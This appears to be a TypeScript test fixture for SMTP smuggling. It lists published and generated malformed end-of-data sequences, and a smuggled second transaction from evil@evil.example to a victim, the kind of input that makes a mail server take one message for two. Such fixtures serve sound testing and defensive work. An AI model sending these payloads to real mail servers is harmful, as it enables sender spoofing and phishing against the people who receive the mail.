/** Ends of data that are none: what is sent where a reader may take one message for two. */

/** What the published lists are made of: the line ends that some server or other knows, with what gets lost beside them. */
const BEFORE = [
  '',
  '\n',
  '\r',
  '\r\n',
  '\r\r\n',
  '\n\r',
  '\n\n',
  '\r\r',
  '\0\r\n',
  '\r\n\0',
  '\r\n ',
  '\r\n\t',
  '\n\0',
];
const BEHIND = [
  '\n',
  '\r',
  '\r\n',
  '\r\r\n',
  '\n\r',
  '\r\r',
  '\0\r\n',
  '\r\0\n',
  ' \r\n',
  '\t\r\n',
  ' \n',
  '\0\n',
  '\r\n\r',
  '',
];
const COMBINED = BEFORE.flatMap((before) => BEHIND.map((behind) => `${before}.${behind}`))
  // That one, wherever it stands, is the end of data.
  .filter((variant) => !`x${variant}`.includes('\r\n.\r\n'));

/** Published by SEC Consult (2023) and in the tests of Postfix, Exim, Sendmail and of those who looked after them. */
export const PUBLISHED = [
  '\n.\n',
  '\n.\r',
  '\n.\r\n',
  '\r.\n',
  '\r.\r',
  '\r.\r\n',
  '\r\n.\n',
  '\r\n.\r',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\0\r\n.\0\r\n',
  '\n\n.\n\n',
  '\r\r.\r\r',
  '\r\r\n.\r\r\n',
  '\n\r.\n\r',
  '\r\n .\r\n',
  '\r\n. \r\n',
  '\r\n\t.\r\n',
  '\r\n.\t\r\n',
  '\r\n.\r\r\n',
  '\r\r\n.\n',
  '\n.\0\r\n',
  '\n\0.\n',
  '\r\n..\r\n',
  '\r\n..\n',
  '\n..\n',
  '\n.\n\r',
  '\r\n.\r\0\n',
];

/** All of them. */
export const VARIANTS: readonly string[] = [...new Set([...PUBLISHED, ...COMBINED])];

/** What would be a second message, if the first one ended too early. */
export const SMUGGLED =
  'MAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@b.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nEvil\r\n';
